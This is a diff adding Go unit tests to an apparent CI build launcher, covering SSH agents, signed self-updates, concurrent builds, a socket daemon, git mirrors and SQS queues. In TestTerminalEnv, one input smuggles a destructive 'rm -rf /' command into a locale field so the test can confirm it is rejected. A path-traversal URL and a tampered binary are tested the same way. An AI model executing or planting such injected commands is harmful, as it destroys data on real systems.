+	if _, err := os.Stat(filepath.Join(dir, "docker")); !os.IsNotExist(err) {
+		t.Errorf("The registry logins should be removed with the build: %v", err)
+	}
+}
+
+func TestStepOwner(t *testing.T) {
+	current, err := user.Current()
+	if err != nil {
+		t.Skipf("No current user: %v", err)
+	}
+	build := screwdriver.Build{
+		Commands:      []screwdriver.CommandDef{{Name: "install", Cmd: "make"}, {Name: "test", Cmd: "make test", User: current.Username}},
+		StepTemplates: map[string]screwdriver.StepTemplate{"lint": {Steps: []screwdriver.CommandDef{{Name: "lint", Cmd: "make lint", User: current.Username}}}},
+	}
+	uid, gid, ok, err := stepOwner(build, "DOCKER_CONFIG")
+	if err != nil || !ok || strconv.Itoa(uid) != current.Uid || strconv.Itoa(gid) != current.Gid {
+		t.Errorf("stepOwner() = %d, %d, %v, %v, want the current user", uid, gid, ok, err)
+	}
+
+	if _, _, ok, err := stepOwner(screwdriver.Build{Commands: build.Commands[:1]}, "DOCKER_CONFIG"); ok || err != nil {
+		t.Errorf("stepOwner() without users = %v, %v", ok, err)
+	}
+	build.Commands = append(build.Commands, screwdriver.CommandDef{Name: "deploy", Cmd: "make deploy", User: "deploy"})
+	if got := stepUsers(build); !reflect.DeepEqual(got, []string{current.Username, "deploy"}) && !reflect.DeepEqual(got, []string{"deploy", current.Username}) {
+		t.Errorf("stepUsers() = %v", got)
+	}
+	if _, _, ok, err := stepOwner(build, "DOCKER_CONFIG"); ok || err != nil {
+		t.Errorf("stepOwner() of several users = %v, %v, want none", ok, err)
+	}
+	if _, _, _, err := stepOwner(screwdriver.Build{Commands: []screwdriver.CommandDef{{Name: "test", User: "no-such-user-sd"}}}, "DOCKER_CONFIG"); err == nil {
+		t.Errorf("An unknown user should fail")
+	}
+
+	dir, err := ioutil.TempDir("", "owner")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	ioutil.WriteFile(filepath.Join(dir, "config.json"), []byte("{}"), 0600)
+	if err := chownAll(dir, uid, gid); err != nil {
+		t.Errorf("Unexpected error from chownAll: %v", err)
+	}
+	if err := chownAll(filepath.Join(dir, "missing"), uid, gid); err == nil {
+		t.Errorf("A missing directory should fail")
+	}
+}
+
+func TestStartSSHAgent(t *testing.T) {
+	if _, err := exec.LookPath("ssh-agent"); err != nil {
+		t.Skip("No ssh-agent")
+	}
+	dir, err := ioutil.TempDir("", "sshagent")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	oldEnvDir := envDir
+	defer func() { envDir = oldEnvDir }()
+	envDir = dir
+
+	private, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	key := string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(private)}))
+	job := func(keys ...string) screwdriver.Job {
+		return screwdriver.Job{Permutations: []screwdriver.JobPermutation{{Annotations: screwdriver.JobAnnotations{SSHKeys: keys}}}}
+	}
+	secrets := screwdriver.Secrets{{Name: "DEPLOY_KEY", Value: key}, {Name: "BROKEN_KEY", Value: "not a key"}}
+
+	agent, err := startSSHAgent(job("DEPLOY_KEY"), screwdriver.Build{}, secrets)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer agent.Stop()
+	if !strings.HasPrefix(agent.Socket, dir) {
+		t.Errorf("Socket %s, want it in %s", agent.Socket, dir)
+	}
+	list := exec.Command("ssh-add", "-l")
+	list.Env = append(os.Environ(), "SSH_AUTH_SOCK="+agent.Socket)
+	if out, err := list.CombinedOutput(); err != nil {
+		t.Errorf("ssh-add -l = %s, %v, want the deploy key", out, err)
+	}
+
+	if agent, err := startSSHAgent(job(), screwdriver.Build{}, secrets); agent != nil || err != nil {
+		t.Errorf("startSSHAgent() without keys = %v, %v", agent, err)
+	}
+	for _, name := range []string{"MISSING_KEY", "BROKEN_KEY"} {
+		if _, err := startSSHAgent(job(name), screwdriver.Build{}, secrets); err == nil || !strings.Contains(err.Error(), name) {
+			t.Errorf("startSSHAgent(%s) error = %v, want an error of the key", name, err)
+		}
+	}
+	unknown := screwdriver.Build{Commands: []screwdriver.CommandDef{{Name: "test", User: "no-such-user-sd"}}}
+	if _, err := startSSHAgent(job("DEPLOY_KEY"), unknown, secrets); err == nil {
+		t.Errorf("startSSHAgent() for an unknown user should fail")
+	}
 }
 
 func TestCreateEnvironment(t *testing.T) {
@@ -1013,6 +1682,25 @@ func TestUserShellBin(t *testing.T) {
 	}
 }
 
+func TestBuildShell(t *testing.T) {
+	annotated := screwdriver.Job{Permutations: []screwdriver.JobPermutation{{Annotations: screwdriver.JobAnnotations{Shell: "/bin/dash"}}}}
+	tests := []struct {
+		userShellBin string
+		job          screwdriver.Job
+		want         string
+	}{
+		{"", screwdriver.Job{}, "/bin/sh"},
+		{"/bin/bash", screwdriver.Job{}, "/bin/bash"},
+		{"", annotated, "/bin/dash"},
+		{"/bin/bash", annotated, "/bin/dash"},
+	}
+	for _, test := range tests {
+		if got := buildShell("/bin/sh", test.userShellBin, test.job); got != test.want {
+			t.Errorf("buildShell(%q, %+v) = %s, want %s", test.userShellBin, test.job, got, test.want)
+		}
+	}
+}
+
 func TestFetchDefaultMeta(t *testing.T) {
 	initCoverageMeta()
 	oldWriteFile := writeFile
@@ -2489,3 +3177,483 @@ func TestSignalsAreDelivered(t *testing.T) {
 	main()
 	t.Logf("sigterm...")
 }
+
+func TestTerminalEnv(t *testing.T) {
+	job := func(annotations screwdriver.JobAnnotations) screwdriver.Job {
+		return screwdriver.Job{Permutations: []screwdriver.JobPermutation{{Annotations: annotations}}}
+	}
+	tests := []struct {
+		job  screwdriver.Job
+		want map[string]string
+	}{
+		{screwdriver.Job{}, map[string]string{}},
+		{
+			job(screwdriver.JobAnnotations{Locale: "en_US.UTF-8", Timezone: "Asia/Tokyo", Term: "xterm-256color"}),
+			map[string]string{"LANG": "en_US.UTF-8", "LC_ALL": "en_US.UTF-8", "TZ": "Asia/Tokyo", "TERM": "xterm-256color"},
+		},
+		{job(screwdriver.JobAnnotations{Locale: "C.UTF-8", Timezone: "UTC"}), map[string]string{"LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "TZ": "UTC"}},
+		{job(screwdriver.JobAnnotations{Locale: "de_DE.utf8@euro", Term: "dumb"}), map[string]string{"LANG": "de_DE.utf8@euro", "LC_ALL": "de_DE.utf8@euro", "TERM": "dumb"}},
+		{job(screwdriver.JobAnnotations{Locale: "en US; rm -rf /", Timezone: "Mars/Olympus", Term: "xterm 256"}), map[string]string{}},
+	}
+	for _, test := range tests {
+		if got := terminalEnv(test.job); !reflect.DeepEqual(got, test.want) {
+			t.Errorf("terminalEnv(%+v) = %v, want %v", test.job, got, test.want)
+		}
+	}
+}
+
+func TestLauncherUpdate(t *testing.T) {
+	dir, err := ioutil.TempDir("", "update")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	oldReadFile, oldClient := readFile, client
+	defer func() { readFile, client = oldReadFile, oldClient }()
+	readFile, client = ioutil.ReadFile, retryablehttp.NewClient()
+	client.RetryMax = 0
+
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	der, _ := x509.MarshalPKIXPublicKey(pub)
+	keyPath := dir + "/update-key.pem"
+	ioutil.WriteFile(keyPath, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0644)
+
+	binary := []byte("#!/bin/sh\necho launcher 6.0.1\n")
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, binary))
+	downloads := 0
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/launcher/6.0.1/launcher_linux_amd64":
+			downloads++
+			w.Write(binary)
+		case "/launcher/6.0.1/launcher_linux_amd64.sig":
+			fmt.Fprintln(w, signature)
+		case "/launcher/6.0.2/launcher_linux_amd64":
+			w.Write([]byte("tampered"))
+		case "/launcher/6.0.2/launcher_linux_amd64.sig":
+			fmt.Fprintln(w, signature)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+	url := server.URL + "/launcher/{version}/launcher_linux_amd64"
+
+	if update, err := newLauncherUpdate("", url, keyPath, dir); update != nil || err != nil {
+		t.Errorf("No version should mean no update, got %v, %v", update, err)
+	}
+	if _, err := newLauncherUpdate("6.0.1", "", keyPath, dir); err == nil {
+		t.Errorf("Expected an error without a URL")
+	}
+	if _, err := newLauncherUpdate("6.0.1", url, "", dir); err == nil {
+		t.Errorf("Expected an error without a key")
+	}
+
+	update, err := newLauncherUpdate("6.0.1", url, keyPath, dir+"/launchers")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	for i := 0; i < 2; i++ {
+		path, err := update.download()
+		if err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if data, _ := ioutil.ReadFile(path); path != dir+"/launchers/launcher-6.0.1" || !reflect.DeepEqual(data, binary) {
+			t.Errorf("Unexpected launcher %s: %q", path, data)
+		}
+	}
+	if downloads != 1 {
+		t.Errorf("The verified launcher should be downloaded once, got %d downloads", downloads)
+	}
+
+	tampered, _ := newLauncherUpdate("6.0.2", url, keyPath, dir)
+	if _, err := tampered.download(); err == nil {
+		t.Errorf("Expected an error for a launcher with an invalid signature")
+	}
+	if _, err := os.Stat(tampered.path()); !os.IsNotExist(err) {
+		t.Errorf("The launcher with an invalid signature should not be kept: %v", err)
+	}
+	missing, _ := newLauncherUpdate("7.0.0", url, keyPath, dir)
+	if _, err := missing.download(); err == nil {
+		t.Errorf("Expected an error for a missing launcher")
+	}
+
+	oldExecLauncher := execLauncher
+	defer func() { execLauncher = oldExecLauncher }()
+	var execPath string
+	var execArgs, execEnv []string
+	execLauncher = func(path string, args, env []string) error {
+		execPath, execArgs, execEnv = path, args, env
+		return nil
+	}
+	defer os.Setenv(updatedEnv, os.Getenv(updatedEnv))
+	os.Unsetenv(updatedEnv)
+
+	var none *launcherUpdate
+	if err := none.apply("6.0.0"); err != nil || execPath != "" {
+		t.Errorf("No update should run nothing, got %v", err)
+	}
+	if err := update.apply("6.0.1"); err != nil || execPath != "" {
+		t.Errorf("The launcher of the pinned version should not update, got %v", err)
+	}
+	if err := update.apply("6.0.0"); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if execPath != update.path() || execArgs[0] != update.path() || !reflect.DeepEqual(execArgs[1:], os.Args[1:]) {
+		t.Errorf("Unexpected launcher run %s %v", execPath, execArgs)
+	}
+	if execEnv[len(execEnv)-1] != updatedEnv+"=6.0.1" {
+		t.Errorf("The updated launcher should know it was updated: %v", execEnv[len(execEnv)-1])
+	}
+
+	// The launcher run for the update never updates again
+	execPath = ""
+	os.Setenv(updatedEnv, "6.0.1")
+	if err := update.apply("6.0.0"); err == nil || execPath != "" {
+		t.Errorf("Expected an error for a launcher already updated, got %v", err)
+	}
+}
+
+func TestNegotiateCapabilitiesFallback(t *testing.T) {
+	api := MockAPI{
+		negotiateCapabilities: func(buildID int, launcher screwdriver.Capabilities) (screwdriver.Capabilities, error) {
+			return screwdriver.Capabilities{}, fmt.Errorf("WARNING: received response 404 from http://fakeurl/v4/builds/%d/capabilities", buildID)
+		},
+	}
+	capabilities := negotiateCapabilities(api, 1234)
+	assert.Equal(t, 1, capabilities.LogProtocol)
+	assert.Empty(t, capabilities.Features)
+
+	capabilities = negotiateCapabilities(MockAPI{}, 1234)
+	assert.Equal(t, screwdriver.LauncherCapabilities(version), capabilities)
+}
+
+func TestMultiBuildRun(t *testing.T) {
+	dir, err := ioutil.TempDir("", "builds")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	running := filepath.Join(dir, "running")
+	os.Mkdir(running, 0777)
+
+	oldLauncherCommand := launcherCommand
+	defer func() { launcherCommand = oldLauncherCommand }()
+	// Every launcher writes its arguments and token, and how many launchers run with it, then
+	// fails for build 3
+	launcherCommand = func(args, env []string, out io.Writer) (*exec.Cmd, error) {
+		id := args[len(args)-1]
+		script := fmt.Sprintf(`touch %[1]s/%[2]s; ls %[1]s | wc -l > %[3]s/%[2]s.running
+echo "$*" > %[3]s/%[2]s.args; echo "$SD_TOKEN" > %[3]s/%[2]s.token; echo "starting $*"
+sleep 0.2; rm %[1]s/%[2]s; [ %[2]s != 3 ]`, running, id, dir)
+		cmd := exec.Command("/bin/sh", append([]string{"-c", script, "launch"}, args...)...)
+		cmd.Env, cmd.Stdout, cmd.Stderr = env, out, out
+		return cmd, nil
+	}
+
+	var mu sync.Mutex
+	statuses := map[int]string{}
+	api := MockAPI{
+		getBuildToken: func(buildID int, buildTimeoutMinutes int) (string, error) {
+			if buildID == 4 {
+				return "", fmt.Errorf("404 Not Found")
+			}
+			return fmt.Sprintf("token-%d-%d", buildID, buildTimeoutMinutes), nil
+		},
+		updateBuildStatus: func(status screwdriver.BuildStatus, meta map[string]interface{}, buildID int, message string) error {
+			mu.Lock()
+			defer mu.Unlock()
+			statuses[buildID] = string(status)
+			return nil
+		},
+	}
+	m := multiBuild{
+		args:         []string{"--api-uri", "http://api"},
+		workspace:    filepath.Join(dir, "workspace"),
+		emitter:      filepath.Join(dir, "emitter"),
+		metaSpace:    filepath.Join(dir, "meta"),
+		envDir:       filepath.Join(dir, "env"),
+		buildTimeout: 90,
+	}
+	err = m.run(api, []int{1, 2, 3, 4, 5}, 2)
+	assert.EqualError(t, err, "The launchers of builds 3, 4 failed")
+	assert.Equal(t, map[int]string{3: screwdriver.Failure}, statuses)
+
+	for _, id := range []string{"1", "2", "3", "5"} {
+		args, _ := ioutil.ReadFile(filepath.Join(dir, id+".args"))
+		want := fmt.Sprintf("--api-uri http://api --workspace %[1]s/workspace/%[2]s --emitter %[1]s/emitter/%[2]s --meta-space %[1]s/meta/%[2]s --env-dir %[1]s/env/%[2]s %[2]s\n", dir, id)
+		assert.Equal(t, want, string(args))
+		token, _ := ioutil.ReadFile(filepath.Join(dir, id+".token"))
+		assert.Equal(t, "token-"+id+"-90\n", string(token))
+		count, _ := ioutil.ReadFile(filepath.Join(dir, id+".running"))
+		if n, _ := strconv.Atoi(strings.TrimSpace(string(count))); n < 1 || n > 2 {
+			t.Errorf("%s launchers ran with build %s, want at most 2", strings.TrimSpace(string(count)), id)
+		}
+		if _, err := os.Stat(filepath.Join(dir, "workspace", id)); err != nil {
+			t.Errorf("The workspace of build %s should be created: %v", id, err)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(dir, "4.args")); err == nil {
+		t.Errorf("Build 4 should not run without its token")
+	}
+}
+
+func TestWithoutFlag(t *testing.T) {
+	args := []string{"--api-uri", "http://api", "--token", "secret", "-token=secret", "--debug", "--token-file", "path", "token"}
+	assert.Equal(t, []string{"--api-uri", "http://api", "--debug", "--token-file", "path", "token"}, withoutFlag(args, "token"))
+	assert.Equal(t, []string{"PATH=/bin", "SD_TOKENS=x"}, withoutEnv([]string{"SD_TOKEN=secret", "PATH=/bin", "SD_TOKENS=x"}, "SD_TOKEN"))
+}
+
+func TestPrefixWriter(t *testing.T) {
+	var out strings.Builder
+	w := &prefixWriter{w: &out, prefix: "[build 1] "}
+	w.Write([]byte("one\ntw"))
+	w.Write([]byte("o\nthree"))
+	assert.Equal(t, "[build 1] one\n[build 1] two\n", out.String())
+	w.Flush()
+	assert.Equal(t, "[build 1] one\n[build 1] two\n[build 1] three\n", out.String())
+}
+
+func TestDaemon(t *testing.T) {
+	dir, err := ioutil.TempDir("", "daemon")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	// The launchers run until release is closed
+	release, hold := io.Pipe()
+	oldLauncherCommand := launcherCommand
+	defer func() { launcherCommand = oldLauncherCommand }()
+	launcherCommand = func(args, env []string, out io.Writer) (*exec.Cmd, error) {
+		cmd := exec.Command("/bin/sh", "-c", `cat > /dev/null; echo "$SD_GIT_MIRROR_DIR" > `+filepath.Join(dir, args[len(args)-1]))
+		cmd.Env, cmd.Stdout, cmd.Stderr, cmd.Stdin = env, out, out, release
+		return cmd, nil
+	}
+
+	socket := filepath.Join(dir, "launcher.sock")
+	listener, err := net.Listen("unix", socket)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	m := multiBuild{workspace: filepath.Join(dir, "workspace"), emitter: filepath.Join(dir, "emitter"), metaSpace: filepath.Join(dir, "meta"), envDir: filepath.Join(dir, "env"), env: []string{"SD_GIT_MIRROR_DIR=/sd/mirrors"}}
+	d := &daemon{m: m, api: MockAPI{}, sem: make(chan struct{}, 1), running: map[int]bool{}, listener: listener}
+	served := make(chan struct{})
+	go func() {
+		d.serve()
+		close(served)
+	}()
+
+	conn, err := net.Dial("unix", socket)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer conn.Close()
+	replies := bufio.NewScanner(conn)
+	send := func(line string) string {
+		fmt.Fprintln(conn, line)
+		replies.Scan()
+		return replies.Text()
+	}
+	assert.Equal(t, "ok build 7", send("build 7"))
+	assert.Equal(t, "error build 7 is already running", send("build 7"))
+	assert.Equal(t, "ok build 8", send("build 8"))
+	assert.Equal(t, "ok 7 8", send("status"))
+	assert.Equal(t, `error invalid build ID "x"`, send("build x"))
+	assert.Equal(t, `error unknown command "restart", want build <id>, status or stop`, send("restart"))
+	assert.Equal(t, "ok stopping", send("stop"))
+	assert.Equal(t, "error the daemon is stopping", send("build 9"))
+
+	hold.Close()
+	<-served
+	assert.Empty(t, d.builds())
+	for _, id := range []string{"7", "8"} {
+		data, _ := ioutil.ReadFile(filepath.Join(dir, id))
+		assert.Equal(t, "/sd/mirrors\n", string(data))
+	}
+	if _, err := net.Dial("unix", socket); err == nil {
+		t.Errorf("The daemon should not take builds once stopped")
+	}
+}
+
+func TestMirrorPath(t *testing.T) {
+	tests := map[string]string{
+		"https://github.com/screwdriver-cd/launcher":     "/sd/mirrors/github.com/screwdriver-cd/launcher.git",
+		"https://github.com/screwdriver-cd/launcher.git": "/sd/mirrors/github.com/screwdriver-cd/launcher.git",
+		"git@github.com:screwdriver-cd/launcher.git":     "/sd/mirrors/github.com/screwdriver-cd/launcher.git",
+		"ssh://git@github.com/screwdriver-cd/launcher":   "/sd/mirrors/github.com/screwdriver-cd/launcher.git",
+		"https://example.com/../../etc":                  "/sd/mirrors/etc.git",
+	}
+	for url, want := range tests {
+		assert.Equal(t, want, mirrorPath("/sd/mirrors", url), url)
+	}
+}
+
+func TestGitMirrors(t *testing.T) {
+	dir, err := ioutil.TempDir("", "mirrors")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	repo := filepath.Join(dir, "repo")
+	git := func(args ...string) string {
+		out, err := exec.Command("git", append([]string{"-C", repo, "-c", "user.name=test", "-c", "user.email=test@example.com"}, args...)...).CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v: %s", args, err, out)
+		}
+		return strings.TrimSpace(string(out))
+	}
+	os.Mkdir(repo, 0777)
+	git("init", "--quiet")
+	git("commit", "--quiet", "--allow-empty", "-m", "first")
+
+	mirrors := gitMirrors{dir: filepath.Join(dir, "mirrors"), urls: []string{repo, filepath.Join(dir, "missing")}}
+	mirror := mirrorPath(mirrors.dir, repo)
+	mirrors.update()
+	head := git("rev-parse", "HEAD")
+	out, err := exec.Command("git", "-C", mirror, "rev-parse", "HEAD").Output()
+	assert.Nil(t, err)
+	assert.Equal(t, head, strings.TrimSpace(string(out)))
+
+	git("commit", "--quiet", "--allow-empty", "-m", "second")
+	mirrors.update()
+	head = git("rev-parse", "HEAD")
+	out, err = exec.Command("git", "-C", mirror, "rev-parse", "HEAD").Output()
+	assert.Nil(t, err)
+	assert.Equal(t, head, strings.TrimSpace(string(out)))
+}
+
+// fakeQueue answers the polls with its builds, then closes stop
+type fakeQueue struct {
+	mu     sync.Mutex
+	builds []int
+	errs   []error
+	stop   chan struct{}
+	polls  int
+}
+
+func (q *fakeQueue) next(stop <-chan struct{}) (int, error) {
+	q.mu.Lock()
+	defer q.mu.Unlock()
+	q.polls++
+	if len(q.builds) == 0 {
+		close(q.stop)
+		return 0, nil
+	}
+	id, err := q.builds[0], q.errs[0]
+	q.builds, q.errs = q.builds[1:], q.errs[1:]
+	return id, err
+}
+
+func TestPoll(t *testing.T) {
+	dir, err := ioutil.TempDir("", "poll")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	oldLauncherCommand, oldPollErrorWait := launcherCommand, pollErrorWait
+	defer func() { launcherCommand, pollErrorWait = oldLauncherCommand, oldPollErrorWait }()
+	pollErrorWait = time.Millisecond
+	launcherCommand = func(args, env []string, out io.Writer) (*exec.Cmd, error) {
+		cmd := exec.Command("/bin/sh", "-c", "touch "+filepath.Join(dir, args[len(args)-1]))
+		cmd.Env, cmd.Stdout, cmd.Stderr = env, out, out
+		return cmd, nil
+	}
+
+	stop := make(chan struct{})
+	queue := &fakeQueue{
+		builds: []int{1, 0, 0, 2, 3},
+		errs:   []error{nil, nil, errors.New("503 Service Unavailable"), nil, nil},
+		stop:   stop,
+	}
+	m := multiBuild{workspace: filepath.Join(dir, "workspace"), emitter: filepath.Join(dir, "emitter"), metaSpace: filepath.Join(dir, "meta"), envDir: filepath.Join(dir, "env")}
+	m.poll(MockAPI{}, queue, 2, stop)
+
+	assert.Equal(t, 6, queue.polls)
+	for _, id := range []string{"1", "2", "3"} {
+		if _, err := os.Stat(filepath.Join(dir, id)); err != nil {
+			t.Errorf("Build %s should have run: %v", id, err)
+		}
+	}
+}
+
+func TestParseQueuedBuild(t *testing.T) {
+	tests := []struct {
+		body string
+		id   int
+		err  bool
+	}{
+		{"123", 123, false},
+		{" 123\n", 123, false},
+		{`{"buildId": 456}`, 456, false},
+		{`{"buildId": 0}`, 0, true},
+		{"-1", 0, true},
+		{"build 123", 0, true},
+	}
+	for _, test := range tests {
+		id, err := parseQueuedBuild(test.body)
+		if id != test.id || (err != nil) != test.err {
+			t.Errorf("parseQueuedBuild(%q) = %d, %v, want %d and error %v", test.body, id, err, test.id, test.err)
+		}
+	}
+}
+
+func TestBuildQueueOf(t *testing.T) {
+	defer os.Setenv("AWS_ACCESS_KEY_ID", os.Getenv("AWS_ACCESS_KEY_ID"))
+	defer os.Setenv("AWS_SECRET_ACCESS_KEY", os.Getenv("AWS_SECRET_ACCESS_KEY"))
+	os.Setenv("AWS_ACCESS_KEY_ID", "")
+
+	queue, err := buildQueueOf("dedicated", MockAPI{}, time.Minute)
+	assert.Nil(t, err)
+	assert.Equal(t, apiQueue{api: MockAPI{}, name: "dedicated", interval: time.Minute}, queue)
+
+	_, err = buildQueueOf("", MockAPI{}, time.Minute)
+	assert.NotNil(t, err)
+	_, err = buildQueueOf("sqs+http://localhost:9324/queue/builds", MockAPI{}, time.Minute)
+	assert.NotNil(t, err)
+
+	os.Setenv("AWS_ACCESS_KEY_ID", "AKID")
+	os.Setenv("AWS_SECRET_ACCESS_KEY", "secret")
+	queue, err = buildQueueOf("sqs+http://localhost:9324/queue/builds", MockAPI{}, time.Minute)
+	assert.Nil(t, err)
+	if q, ok := queue.(sqsQueue); !ok || q.wait != 20 {
+		t.Errorf("Unexpected queue %+v, want an SQS queue long polled for 20 seconds", queue)
+	}
+}
+
+func TestSQSQueue(t *testing.T) {
+	var deleted []string
+	bodies := []string{"123", "not a build"}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		switch r.PostForm.Get("Action") {
+		case "ReceiveMessage":
+			if len(bodies) == 0 {
+				w.Write([]byte(`<ReceiveMessageResponse><ReceiveMessageResult/></ReceiveMessageResponse>`))
+				return
+			}
+			fmt.Fprintf(w, `<ReceiveMessageResponse><ReceiveMessageResult><Message><MessageId>m</MessageId><ReceiptHandle>%d</ReceiptHandle><Body>%s</Body></Message></ReceiveMessageResult></ReceiveMessageResponse>`, len(bodies), bodies[0])
+			bodies = bodies[1:]
+		case "DeleteMessage":
+			deleted = append(deleted, r.PostForm.Get("ReceiptHandle"))
+		}
+	}))
+	defer server.Close()
+
+	client, err := sqs.New(server.URL+"/queue/builds", "", sigv4.Credentials{AccessKeyID: "AKID", SecretAccessKey: "secret"})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	queue := sqsQueue{client: client, wait: 1}
+	for _, want := range []int{123, 0, 0} {
+		id, err := queue.next(nil)
+		assert.Nil(t, err)
+		assert.Equal(t, want, id)
+	}
+	assert.Equal(t, []string{"2", "1"}, deleted)
+}